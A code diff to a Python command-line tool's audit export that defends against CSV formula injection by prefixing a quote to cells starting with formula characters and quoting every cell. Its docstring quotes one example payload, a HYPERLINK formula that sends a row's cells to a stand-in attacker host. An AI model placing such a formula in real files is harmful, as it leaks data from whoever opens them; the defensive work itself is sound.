@@ -185,14 +185,37 @@ def cmd_audit_export(args: argparse.Namespace, settings: Settings) -> int:
     return EXIT_OK
 
 
+# A cell a spreadsheet runs as a formula when it opens the file (OWASP "CSV Injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """``value`` as a CSV cell that Excel, LibreOffice or Sheets show as text.
+
+    Any chat user writes the question text, and an admin opens the export in a
+    spreadsheet: ``=HYPERLINK("https://evil.example/?"&B2,"Open policy")`` would run there,
+    sending the row's other cells away. Text starting with ``= + - @``, tab, CR or LF —
+    also after leading blanks — gets a leading ``'``, which spreadsheets read as "this
+    is text" and do not show (OWASP's list). Numbers stay numbers; JSON lines, the format
+    that verifies offline, are never changed."""
+    if not isinstance(value, str) or not value:
+        return value
+    if value.lstrip(" \u00a0\u3000").startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def _csv(fh: TextIO, rows: Iterator[dict[str, Any]], *, tty: bool) -> int:
+    """Every cell quoted (a ``;`` or ``,`` in a question cannot start a cell of its own in
+    a spreadsheet that splits on it) and made spreadsheet-safe."""
     writer: Any = None
     count = 0
     for row in rows:
         if writer is None:
-            writer = csv.DictWriter(fh, fieldnames=list(row))
+            writer = csv.DictWriter(fh, fieldnames=list(row), quoting=csv.QUOTE_ALL)
             writer.writeheader()
-        writer.writerow({k: _printable(v) for k, v in row.items()} if tty else row)
+        cells = {k: _printable(v) for k, v in row.items()} if tty else row
+        writer.writerow({k: spreadsheet_safe(v) for k, v in cells.items()})
         count += 1
     return count
 
